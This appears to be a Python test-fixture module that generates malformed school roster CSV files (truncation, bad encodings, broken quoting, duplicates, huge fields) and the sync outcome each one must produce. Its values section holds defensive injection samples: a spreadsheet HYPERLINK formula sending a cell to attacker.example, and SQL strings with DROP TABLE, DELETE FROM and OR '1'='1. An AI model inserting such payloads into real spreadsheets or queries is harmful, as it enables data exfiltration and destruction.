"""A corpus of bad and odd roster files, each with the outcome the file contract promises for it.

Every file is generated in code from *last week's roster*: 250 people (enough that the mass-change guard's
`min_active` of 100 applies) with accented names, a student id, a user type and a class year. A case is a
name, a builder turning that roster into this week's bytes, optional client settings, and what must happen:

- `Ignored(problem, words, line, byte_offset)`: nothing applied; the sync log says why in words a school's IT
  person can act on, naming the line or byte offset where the contract says so;
- `Blocked(deprovisions)`: the mass-change guard stops the sync; only the log row is written;
- `Imported(counts, changes)` / `Rejected(reasons, lines, ...)`: the file applies; `changes` lists every
  subscriber that may differ afterwards, with the stored values it must have, and nobody else may change;
  `untouched` names the people whose rows were rejected: they stay exactly as they were (never
  deprovisioned).

`sis_pipeline_tests/test_bad_files.py` runs every case on SQLite and PostgreSQL; docs/RELIABILITY.md lists
them. The overriding rule they protect: a truncated, mis-encoded or badly-headed file never deprovisions
anyone.
"""

from __future__ import annotations

import csv
import gzip
import io
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from types import MappingProxyType
from typing import Any

#: People in last week's file.
LAST_WEEK_SIZE = 250
FORTY_PERCENT = LAST_WEEK_SIZE * 2 // 5
DOMAIN = "lincoln-high.example.org"
HEADER = ("first_name", "last_name", "email", "student_id", "user_type", "graduation")
USER_TYPES = {"Student": "Students", "Teacher": "Teachers"}
# Every name is also in Windows-1252, so the same roster can be saved in either encoding.
_FIRST = ("Zoë", "José", "Siobhán", "Mateo", "Chloé", "Björn", "Aaliyah", "Dmitri", "Anaïs", "Kwame")
_LAST = ("García", "Müller", "O'Brien", "Nakamura", "Þórsdóttir", "Smith", "Dubois", "Okafor")

Row = dict[str, str]
_EMPTY: Mapping[str, Any] = MappingProxyType({})


# --- last week's roster ----------------------------------------------------------------------------------


def email(n: int) -> str:
    return f"student{n:04d}@{DOMAIN}"


def key(n: int) -> str:
    """Subscriber key of person n for a client whose identifier is the email."""
    return email(n).lower()


def line_of(n: int) -> int:
    """Physical line of person n in a file written by `to_csv` (the header is line 1)."""
    return n + 2


def person(n: int) -> Row:
    teacher = n % 25 == 0
    return {
        "first_name": _FIRST[n % len(_FIRST)],
        "last_name": _LAST[n % len(_LAST)],
        "email": email(n),
        "student_id": f"S{100000 + n}",
        "user_type": "Teacher" if teacher else "Student",
        "graduation": "" if teacher else str(2026 + n % 4),
    }


def last_week() -> list[Row]:
    return [person(n) for n in range(LAST_WEEK_SIZE)]


def personal_values() -> set[str]:
    """Values no log line or message may carry: every email, student id and (longer) name of the roster."""
    values: set[str] = set()
    for row in last_week():
        values |= {row["email"], row["student_id"], row["first_name"], row["last_name"]}
    return {v for v in values if len(v) >= 4}


def to_csv(
    rows: list[Row] | list[list[str]],
    header: tuple[str, ...] | list[str] = HEADER,
    *,
    newline: str = "\r\n",
    final_newline: bool = True,
) -> str:
    """RFC 4180 text as Python's csv module writes it (fields quoted only where needed)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator=newline)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(c, "") for c in header] if isinstance(row, dict) else row)
    text = buffer.getvalue()
    return text if final_newline else text.removesuffix(newline)


def last_week_csv() -> bytes:
    return to_csv(last_week()).encode("utf-8")


def _lines(text: str) -> list[str]:
    return text.splitlines(keepends=True)


# --- outcomes --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Ignored:
    """The whole file is ignored: nothing applied, the sync log's message says why."""

    problem: str
    words: tuple[str, ...]  # the message contains each (case-insensitively)
    line: int | None = None
    byte_offset: int | None = None
    kind = status = "ignored"


@dataclass(frozen=True)
class Blocked:
    """The mass-change guard stops the sync: nothing applied, the numbers are shown."""

    deprovisions: int
    kind = status = "blocked"


@dataclass(frozen=True)
class Imported:
    """The file applies. `changes`: every subscriber key that may differ afterwards -> stored values it must
    have (a key not listed must be exactly as before). `counts`: the sync log's non-zero counts besides
    `unchanged_rows` (every other count must be 0 — above all `deprovisioned` and `missing`)."""

    counts: Mapping[str, int] = field(default_factory=dict)
    changes: Mapping[str, Mapping[str, Any]] = field(default_factory=dict)
    warnings: tuple[str, ...] = ()  # warning codes the file must raise
    rejected: Mapping[str, int] = field(default_factory=dict)  # reason code -> rejected lines
    lines: tuple[int, ...] = ()  # lines that must be among the rejected ones
    untouched: tuple[str, ...] = ()  # people named by rejected rows: exactly as before, never deprovisioned
    status = "applied"

    @property
    def kind(self) -> str:
        return "rejected" if self.rejected else "imported"


def Rejected(
    reasons: Mapping[str, int], lines: tuple[int, ...], untouched: tuple[str, ...] = (), **more: Any
) -> Imported:
    """The file applies without its rejected rows."""
    return Imported(rejected=reasons, lines=lines, untouched=untouched, **more)


Outcome = Ignored | Blocked | Imported


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    expected: Outcome
    settings: Mapping[str, Any] = field(default_factory=dict)  # ClientConfig fields beyond the corpus default
    why: str = ""  # the rule the case protects, in a line

    def __repr__(self) -> str:
        return self.name


# --- builders ---------------------------------------------------------------------------------------------


def _utf8(text: str) -> bytes:
    return text.encode("utf-8")


def _roster_with(changes: Mapping[int, Mapping[str, str]] = _EMPTY, extra: list[Row] | None = None) -> bytes:
    rows = last_week()
    for n, values in changes.items():
        rows[n] = {**rows[n], **values}
    return _utf8(to_csv(rows + (extra or [])))


def _replace_line(n: int, text: str) -> bytes:
    """Last week's file with person n's line replaced by raw text (its line break kept)."""
    lines = _lines(to_csv(last_week()))
    lines[line_of(n) - 1] = text + "\r\n"
    return _utf8("".join(lines))


def _cut_after(rows: int, *, inside: str | None = None) -> bytes:
    """Last week's file cut after its first `rows` rows; with `inside`, cut in the middle of the next row,
    just after the first occurrence of `inside` in it."""
    lines = _lines(to_csv(last_week()))
    keep = 1 + rows
    text = "".join(lines[:keep])
    if inside is not None:
        row = lines[keep]
        text += row[: row.index(inside) + len(inside)]
    return _utf8(text)


def _head(n: int) -> bytes:
    """Last week's file up to (not including) person n's line."""
    return _utf8("".join(_lines(to_csv(last_week()))[: line_of(n) - 1]))


def _record(values: list[str]) -> str:
    """One CSV record, without its line break."""
    return to_csv([], header=values, final_newline=False)


def _xlsx(rows: list[Row]) -> bytes:
    """A minimal but real Office Open XML workbook (what Excel's .xlsx is) holding the roster."""

    def cell(value: str) -> str:
        escaped = value.replace("&", "&amp;").replace("<", "&lt;")
        return f'<c t="inlineStr"><is><t>{escaped}</t></is></c>'

    sheet_rows = "".join(
        f"<row>{''.join(cell(v) for v in values)}</row>"
        for values in [list(HEADER), *[[r[c] for c in HEADER] for r in rows]]
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
        '2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="{rel}"/>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{main}"><sheets><sheet name="Roster" '
        'sheetId="1"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet xmlns="{main}"><sheetData>{sheet_rows}'
        "</sheetData></worksheet>",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def _zip_of_csv() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("student_feed.csv", last_week_csv())
    return buffer.getvalue()


def _xls() -> bytes:
    """The first sector of an Excel 97-2003 (OLE2 compound document) file: its signature and header."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(24) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + bytes(472)


def _invalid_utf8_mid_file() -> tuple[bytes, int]:
    """Last week's UTF-8 file with one byte that is not UTF-8 (0xFF) in the middle of a name."""
    data = last_week_csv()
    at = data.index(b"\r\n", len(data) // 2) + 2 + 1  # second byte of a line in the middle
    return data[:at] + b"\xff" + data[at:], at


def _cp1252_with_undefined_byte() -> tuple[bytes, int]:
    """Last week's file saved as Windows-1252, with 0x81 (undefined there, invalid in UTF-8) in a name."""
    data = to_csv(last_week()).encode("cp1252")
    at = data.index(b"\r\n", len(data) // 2) + 2 + 1
    return data[:at] + b"\x81" + data[at:], at


def _nul_mid_file() -> tuple[bytes, int]:
    data = last_week_csv()
    at = data.index(b"\r\n", len(data) // 3) + 2 + 2
    return data[:at] + b"\x00" + data[at:], at


def _cut_in_character() -> tuple[bytes, int]:
    """Cut off inside the two bytes of an accented letter (ë of Zoë) in the middle of the file."""
    data = last_week_csv()
    at = data.index("ë".encode(), len(data) // 2)
    return data[: at + 1], at


def _unterminated_quote() -> bytes:
    n = 120
    row = person(n)
    return _replace_line(
        n, f'{row["first_name"]},"{row["last_name"]},{row["email"]},{row["student_id"]},Student,2027'
    )


def _quote_swallowing_rows(first: int, last: int) -> bytes:
    """A quote opened by mistake in person `first`'s last name and closed, by another mistake, in person
    `last`'s: the lines in between become one long value."""
    lines = _lines(to_csv(last_week()))
    a, b = person(first), person(last)
    lines[line_of(first) - 1] = (
        f'{a["first_name"]},"{a["last_name"]},{a["email"]},{a["student_id"]},Student,2027\r\n'
    )
    lines[line_of(last) - 1] = (
        f'{b["first_name"]},{b["last_name"]}",{b["email"]},{b["student_id"]},Student,2027\r\n'
    )
    return _utf8("".join(lines))


def _mixed_line_endings_with_stray_comma(n: int) -> bytes:
    """Lines end alternately with LF and CRLF, one with a lone CR; person n has a stray comma."""
    rows = last_week()
    endings = ["\r\n" if i % 2 else "\n" for i in range(LAST_WEEK_SIZE + 1)]
    endings[100] = "\r"
    lines = [_record(list(HEADER))]
    for i, row in enumerate(rows):
        values = [row[c] for c in HEADER]
        if i == n:
            values.insert(1, "Jr.")
        lines.append(_record(values))
    return _utf8("".join(text + endings[i] for i, text in enumerate(lines)))


def _blank_lines_with_stray_comma(n: int, blank_every: int = 50) -> tuple[bytes, int]:
    """Blank lines after every `blank_every` rows (and several at the end); person n has a stray comma.
    Returns the file and person n's physical line."""
    out = [_record(list(HEADER)) + "\r\n"]
    line = 1
    n_line = 0
    for i, row in enumerate(last_week()):
        values = [row[c] for c in HEADER]
        if i == n:
            values.insert(2, "")
        out.append(_record(values) + "\r\n")
        line += 1
        if i == n:
            n_line = line
        if i % blank_every == blank_every - 1:
            out.append("\r\n\r\n")
            line += 2
    out.append("\r\n\n\r\n")
    return _utf8("".join(out)), n_line


def _wide_file(columns: int) -> bytes:
    """Last week's roster plus empty extra columns up to `columns` in all."""
    extra = [f"Custom Field {i}" for i in range(columns - len(HEADER))]
    rows = [[*(r[c] for c in HEADER), *([""] * len(extra))] for r in last_week()]
    return _utf8(to_csv(rows, header=[*HEADER, *extra]))


def _huge_notes_field(size: int) -> bytes:
    """A `Notes` column (not mapped) whose value on one row is `size` characters, quoted, with commas."""
    rows = [[*(r[c] for c in HEADER), ""] for r in last_week()]
    rows[77][-1] = ("lorem ipsum, " * (size // 13 + 1))[:size]
    return _utf8(to_csv(rows, header=[*HEADER, "Notes"]))


def _long_email(length: int) -> str:
    """A syntactically valid address of exactly `length` characters (labels of at most 63)."""
    local = "a" * 64
    domain_len = length - len(local) - 1
    labels, remaining = [], domain_len - 4  # ".org"
    while remaining > 0:
        size = min(63, remaining)
        if remaining - size == 1:  # a dot needs a label after it
            size -= 1
        labels.append("d" * size)
        remaining -= size + 1
    domain = ".".join(labels) + ".org"
    value = f"{local}@{domain}"
    assert len(value) == length, (len(value), length)
    return value


EMAIL_254 = _long_email(254)
EMAIL_255 = _long_email(255)
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Click to verify")'
SQL_VALUE = "Robert'); DROP TABLE subscribers;--"
SQL_COLUMN = "email'; DROP TABLE sis_sync_log; --"
EMOJI_FIRST = "Zoë 🦊👩🏽‍🎓"
RTL_LAST = "عبد الله"
HEBREW_LAST = "כהן"
ONE_MB_NAME = "Ñ" * (1 << 19)  # two bytes each in UTF-8: a line of just over 1 MiB
ZWSP = "\u200b"
NBSP = "\u00a0"


def _header_variant(replace: Mapping[str, str]) -> bytes:
    """Last week's file with some header cells spelled differently."""
    rows = [[r[c] for c in HEADER] for r in last_week()]
    return _utf8(to_csv(rows, header=[replace.get(c, c) for c in HEADER]))


def _truncated_mid_row_data() -> tuple[bytes, int]:
    """Cut inside the email of the row of person 240 (96% of the file: the guard alone would let it by)."""
    data = _cut_after(240, inside="@lincoln-hi")
    return data, line_of(240)


_INVALID_UTF8, _INVALID_UTF8_AT = _invalid_utf8_mid_file()
_CP1252_0X81, _CP1252_0X81_AT = _cp1252_with_undefined_byte()
_NUL, _NUL_AT = _nul_mid_file()
_CUT_CHAR, _CUT_CHAR_AT = _cut_in_character()
_TRUNCATED, _TRUNCATED_LINE = _truncated_mid_row_data()
_BLANK_LINES, _BLANK_LINES_REJECTED_LINE = _blank_lines_with_stray_comma(173)

# --- the corpus ---------------------------------------------------------------------------------------------

CASES: tuple[Case, ...] = (
    # Empty and header-only files
    Case("empty_object", lambda: b"", Ignored("no_header", ("empty", "no header")), why="0 bytes"),
    Case("utf8_bom_only", lambda: b"\xef\xbb\xbf", Ignored("no_header", ("empty",))),
    Case("blank_lines_only", lambda: b"\r\n\r\n\n\r\n", Ignored("no_header", ("empty",))),
    Case("header_only", lambda: _utf8(to_csv([])), Ignored("no_data", ("no data record",))),
    Case(
        "header_only_without_line_break",
        lambda: _utf8(to_csv([], final_newline=False)),
        Ignored("no_data", ("no data record",)),
    ),
    Case("header_then_blank_lines", lambda: _utf8(to_csv([]) + "\r\n\r\n"), Ignored("no_data", ("no data",))),
    # Broken headers
    Case(
        "missing_required_column",
        lambda: _utf8(to_csv(last_week(), header=("first_name", "last_name", "student_id", "user_type"))),
        Ignored("missing_column", ("line 1", "required", "email"), line=1),
    ),
    Case(
        "missing_identifier_column",
        lambda: _utf8(to_csv(last_week(), header=("first_name", "last_name", "email", "user_type"))),
        Ignored("missing_column", ("line 1", "user_id"), line=1),
        settings={"identifier": "user_id"},
    ),
    Case(
        "missing_graduation_with_class_year_tags",
        lambda: _utf8(to_csv(last_week(), header=HEADER[:-1])),
        Ignored("missing_column", ("line 1", "graduation"), line=1),
        settings={"class_year_tags": True},
    ),
    Case(
        "no_header_row",
        lambda: _utf8(to_csv([list(r.values()) for r in last_week()[1:]], header=list(person(0).values()))),
        Ignored("missing_column", ("line 1", "not a header", "header row"), line=1),
        why="the first student's row read as a header must not be quoted in the message",
    ),
    Case(
        "duplicate_columns",
        lambda: _utf8(
            to_csv(
                [{**r, "Email Address": r["email"]} for r in last_week()], header=[*HEADER, "Email Address"]
            )
        ),
        Ignored("duplicate_column", ("line 1", "columns 3", "and 7", "'email'"), line=1),
    ),
    Case(
        "duplicate_columns_hidden_by_invisible_characters",
        lambda: _utf8(
            to_csv(
                [[*(r[c] for c in HEADER), r["email"]] for r in last_week()],
                header=[*HEADER, f"{ZWSP}EMAIL{NBSP}"],
            )
        ),
        Ignored("duplicate_column", ("columns 3", "and 7", "'email'"), line=1),
    ),
    Case(
        "header_names_shifted",
        lambda: _utf8(
            to_csv(
                [[r["email"], r["first_name"], r["last_name"], r["user_type"]] for r in last_week()],
                header=("first_name", "last_name", "email", "user_type"),
            )
        ),
        Blocked(deprovisions=LAST_WEEK_SIZE),
        why="every email is a surname: every row rejected, nobody valid; the guard stops the deprovisions",
    ),
    Case(
        "header_with_nbsp_between_words",
        lambda: _header_variant({"first_name": f"First{NBSP}Name", "last_name": f"Last{NBSP}Name{NBSP}"}),
        Imported(),
        why="a no-break space is white space: 'First\u00a0Name' is first_name",
    ),
    Case(
        "header_with_zero_width_spaces",
        lambda: _header_variant({"email": f"{ZWSP}Email{ZWSP}", "student_id": f"Student{ZWSP} ID"}),
        Imported(),
    ),
    Case(
        "header_with_bom_in_the_middle",
        lambda: _header_variant({"last_name": "\ufefflast_name", "user_type": "user\ufeff_type"}),
        Imported(),
        why="a BOM left in the middle by concatenating two exports",
    ),
    Case(
        "sql_looking_column_names",
        lambda: _utf8(
            to_csv(
                [[*(r[c] for c in HEADER), "1", "x"] for r in last_week()],
                header=[*HEADER, SQL_COLUMN, "); DELETE FROM subscribers; --"],
            )
        ),
        Imported(warnings=("unmapped_column",)),
        why="column names are never part of SQL: unknown columns are ignored with a warning",
    ),
    # Not CSV text at all
    Case(
        "gzip_upload",
        lambda: gzip.compress(last_week_csv()),
        Ignored("not_decodable", ("gzip", "byte offset 0", "uncompressed"), byte_offset=0),
    ),
    Case(
        "xlsx_upload",
        lambda: _xlsx(last_week()),
        Ignored("not_decodable", ("Excel workbook (.xlsx)", "CSV", "byte offset 0"), byte_offset=0),
    ),
    Case(
        "xls_upload",
        _xls,
        Ignored("not_decodable", ("Excel 97-2003", "byte offset 0"), byte_offset=0),
    ),
    Case("zip_of_the_csv", _zip_of_csv, Ignored("not_decodable", ("ZIP archive",), byte_offset=0)),
    # Encodings
    Case("utf8_with_bom", lambda: b"\xef\xbb\xbf" + last_week_csv(), Imported()),
    Case(
        "windows_1252",
        lambda: to_csv(last_week()).encode("cp1252"),
        Imported(warnings=("windows_1252",)),
        why="accented names read from Windows-1252 equal last week's UTF-8 ones: nobody is updated",
    ),
    Case(
        "utf16_le_with_bom",
        lambda: to_csv(last_week()).encode("utf-16"),
        Ignored("not_decodable", ("UTF-16", "byte offset 0", "UTF-8"), byte_offset=0),
    ),
    Case(
        "utf16_be_with_bom",
        lambda: b"\xfe\xff" + to_csv(last_week()).encode("utf-16-be"),
        Ignored("not_decodable", ("UTF-16", "byte offset 0"), byte_offset=0),
    ),
    Case(
        "utf16_without_bom",
        lambda: to_csv(last_week()).encode("utf-16-le"),
        Ignored("not_decodable", ("UTF-16", "byte offset 1"), byte_offset=1),
    ),
    Case(
        "utf32_with_bom",
        lambda: to_csv(last_week()).encode("utf-32"),
        Ignored("not_decodable", ("UTF-32", "byte offset 0"), byte_offset=0),
    ),
    Case(
        "invalid_utf8_mid_file",
        lambda: _INVALID_UTF8,
        Ignored(
            "not_decodable",
            (f"byte offset {_INVALID_UTF8_AT}", "0xff", "UTF-8"),
            byte_offset=_INVALID_UTF8_AT,
        ),
        why="read as Windows-1252 it would garble every accented name; refused instead",
    ),
    Case(
        "neither_utf8_nor_windows_1252",
        lambda: _CP1252_0X81,
        Ignored(
            "not_decodable",
            (f"byte offset {_CP1252_0X81_AT}", "0x81", "neither UTF-8 nor Windows-1252"),
            byte_offset=_CP1252_0X81_AT,
        ),
    ),
    Case(
        "nul_byte_mid_file",
        lambda: _NUL,
        Ignored("not_decodable", (f"byte offset {_NUL_AT}", "NUL"), byte_offset=_NUL_AT),
    ),
    # Other delimiters
    Case(
        "semicolon_delimited_export",
        lambda: _utf8(to_csv(last_week()).replace(",", ";")),
        Ignored("wrong_delimiter", ("line 1", "semicolon-separated", "comma-separated"), line=1),
    ),
    Case(
        "tab_delimited_export",
        lambda: _utf8(to_csv(last_week()).replace(",", "\t")),
        Ignored("wrong_delimiter", ("line 1", "tab-separated", "comma-separated"), line=1),
    ),
    # Quoting
    Case(
        "unterminated_quote",
        _unterminated_quote,
        Ignored(
            "unreadable_quoting",
            (f"line {line_of(120)}", "never closed", "rest of the file"),
            line=line_of(120),
        ),
    ),
    Case(
        "quote_swallowing_rows",
        lambda: _quote_swallowing_rows(60, 70),
        Rejected({"line_break": 1}, lines=(line_of(60),), untouched=tuple(key(n) for n in range(60, 71))),
        why="a quote closed 10 lines later swallows them: the row is rejected, the people inside protected",
    ),
    Case(
        "quote_inside_unquoted_field",
        lambda: _replace_line(33, f'Shaquille,O"Neal,{email(33)},S100033,Student,2027'),
        Imported(
            counts={"updated": 1},
            changes={key(33): {"first_name": "Shaquille", "last_name": 'O"Neal', "graduation_year": 2027}},
        ),
        why="a stray quote inside a value is read literally, as Excel does",
    ),
    # Line structure
    Case(
        "mixed_crlf_lf_and_cr",
        lambda: _mixed_line_endings_with_stray_comma(150),
        Rejected({"field_count": 1}, lines=(line_of(150),), untouched=(key(150),)),
        why="any mix of line endings; line numbers stay physical",
    ),
    Case(
        "trailing_line_without_newline",
        lambda: _utf8(to_csv(last_week(), final_newline=False)),
        Imported(),
        why="RFC 4180 allows it (Google Sheets exports end so): a complete last row imports",
    ),
    Case(
        "blank_lines",
        lambda: _BLANK_LINES,
        Rejected({"field_count": 1}, lines=(_BLANK_LINES_REJECTED_LINE,), untouched=(key(173),)),
        why="blank lines are skipped but counted in line numbers",
    ),
    Case(
        "dos_end_of_file_mark",
        lambda: last_week_csv() + b"\x1a",
        Imported(),
    ),
    Case(
        "stray_delimiter_in_a_row",
        lambda: _replace_line(
            42, f"{person(42)['first_name']},Jr.,{person(42)['last_name']},{email(42)},S100042,Student,2028"
        ),
        Rejected({"field_count": 1}, lines=(line_of(42),), untouched=(key(42),)),
        why="values are never shifted; the person is still present",
    ),
    Case(
        "missing_field_in_a_row",
        lambda: _replace_line(43, f"{person(43)['first_name']},{email(43)},S100043,Student,2028"),
        Rejected({"field_count": 1}, lines=(line_of(43),), untouched=(key(43),)),
    ),
    # Truncation
    Case(
        "truncated_mid_row",
        lambda: _TRUNCATED,
        Ignored("truncated", (f"line {_TRUNCATED_LINE}", "cut off", "line break"), line=_TRUNCATED_LINE),
        why="96% of the rows: below the guard's 10%, so the cut row is what must stop it",
    ),
    Case(
        "truncated_in_the_first_field",
        lambda: _cut_after(245, inside=person(245)["first_name"][:2]),
        Ignored("truncated", (f"line {line_of(245)}", "field_count", "cut off"), line=line_of(245)),
    ),
    Case(
        "truncated_inside_a_character",
        lambda: _CUT_CHAR,
        Ignored(
            "truncated", (f"byte offset {_CUT_CHAR_AT}", "middle of a character"), byte_offset=_CUT_CHAR_AT
        ),
    ),
    Case(
        "truncated_inside_a_quoted_field",
        lambda: _head(230) + _utf8('"Zoë, the first name in quotes'),
        Ignored("unreadable_quoting", (f"line {line_of(230)}", "never closed"), line=line_of(230)),
    ),
    Case(
        "truncated_to_40_percent_at_a_line_break",
        lambda: _cut_after(FORTY_PERCENT),
        Blocked(deprovisions=LAST_WEEK_SIZE - FORTY_PERCENT),
        why="a clean cut looks like a complete file: the guard must stop it",
    ),
    Case(
        "truncated_to_40_percent_mid_row",
        lambda: _cut_after(FORTY_PERCENT, inside="@"),
        Ignored("truncated", (f"line {line_of(FORTY_PERCENT)}", "cut off"), line=line_of(FORTY_PERCENT)),
    ),
    # Duplicates
    Case(
        "every_row_duplicated",
        lambda: _utf8(to_csv([r for r in last_week() for _ in (0, 1)])),
        Rejected(
            {"duplicate": 2 * LAST_WEEK_SIZE},
            lines=(2, 3, 2 * LAST_WEEK_SIZE + 1),
            untouched=tuple(key(n) for n in range(LAST_WEEK_SIZE)),
        ),
        why="every copy rejected, every person still present: nothing changes, nobody is deprovisioned",
    ),
    # Values
    Case(
        "formula_like_values",
        lambda: _roster_with({12: {"first_name": FORMULA, "last_name": "=1+2", "user_type": "@SUM(A1)"}}),
        Imported(
            counts={"updated": 1},
            changes={key(12): {"first_name": FORMULA, "last_name": "=1+2", "user_type": "@SUM(A1)"}},
            warnings=("user_type_unmapped",),
        ),
        why="values are data: stored exactly; only CSVs we write for spreadsheets neutralise them",
    ),
    Case(
        "formula_in_the_email_column",
        lambda: _roster_with(extra=[{**person(LAST_WEEK_SIZE), "email": f'=HYPERLINK("mailto:{email(1)}")'}]),
        Rejected({"invalid_email": 1}, lines=(line_of(LAST_WEEK_SIZE),)),
    ),
    Case(
        "sql_looking_values",
        lambda: _roster_with({7: {"first_name": SQL_VALUE, "last_name": "x' OR '1'='1"}}),
        Imported(
            counts={"updated": 1}, changes={key(7): {"first_name": SQL_VALUE, "last_name": "x' OR '1'='1"}}
        ),
        why="values only ever travel as bound parameters or COPY data",
    ),
    Case(
        "emoji_and_right_to_left_names",
        lambda: _roster_with(
            {
                5: {"first_name": EMOJI_FIRST, "last_name": RTL_LAST},
                6: {"last_name": f"\u202b{HEBREW_LAST}\u202c"},
            }
        ),
        Imported(
            counts={"updated": 2},
            changes={
                key(5): {"first_name": EMOJI_FIRST, "last_name": RTL_LAST},
                key(6): {"last_name": f"\u202b{HEBREW_LAST}\u202c"},
            },
        ),
    ),
    Case(
        "email_of_254_characters",
        lambda: _roster_with(extra=[{**person(LAST_WEEK_SIZE), "email": EMAIL_254}]),
        Imported(
            counts={"inserted": 1}, changes={EMAIL_254.lower(): {"email": EMAIL_254, "status": "active"}}
        ),
        why="RFC 5321's limit: the longest address there is",
    ),
    Case(
        "email_of_255_characters",
        lambda: _roster_with(extra=[{**person(LAST_WEEK_SIZE), "email": EMAIL_255}]),
        Rejected({"invalid_email": 1}, lines=(line_of(LAST_WEEK_SIZE),)),
        why="one past RFC 5321's 254: no mail system delivers it",
    ),
    Case(
        "zero_width_space_inside_an_email",
        lambda: _roster_with({88: {"email": email(88).replace("@", f"{ZWSP}@")}}),
        Rejected({"invalid_email": 1}, lines=(line_of(88),), untouched=(key(88),)),
        why="the invisible character makes the address invalid, but the person is recognised and kept",
    ),
    Case(
        "invalid_email_on_a_known_students_row",
        lambda: _roster_with({88: {"email": "student0088 at lincoln-high"}}),
        Rejected({"invalid_email": 1}, lines=(line_of(88),), untouched=(key(88),)),
        why="the row still names the student by student_id: a rejected row's person is never deprovisioned",
    ),
    Case(
        "blank_email_on_a_known_students_row",
        lambda: _roster_with({89: {"email": ""}}),
        Rejected({"blank_email": 1}, lines=(line_of(89),), untouched=(key(89),)),
        why="a blank email still leaves the row's student_id: the person is kept",
    ),
    Case(
        "invisible_characters_around_values",
        lambda: _roster_with(
            {9: {"email": f"{ZWSP}{email(9)}{NBSP}", "first_name": f"\ufeff{person(9)['first_name']}{NBSP}"}}
        ),
        Imported(),
        why="values are trimmed of white space (NBSP too) and of BOM/zero-width characters at their ends",
    ),
    # Size
    Case(
        "ten_megabyte_field",
        lambda: _huge_notes_field(10 * 1024 * 1024),
        Imported(warnings=("unmapped_column",)),
    ),
    Case(
        "ten_thousand_columns",
        lambda: _wide_file(10_000),
        Imported(warnings=("unmapped_column",)),
    ),
    Case(
        "one_megabyte_line",
        lambda: _roster_with({21: {"last_name": ONE_MB_NAME}}),
        Imported(counts={"updated": 1}, changes={key(21): {"last_name": ONE_MB_NAME}}),
    ),
)

CASES_BY_NAME = {case.name: case for case in CASES}
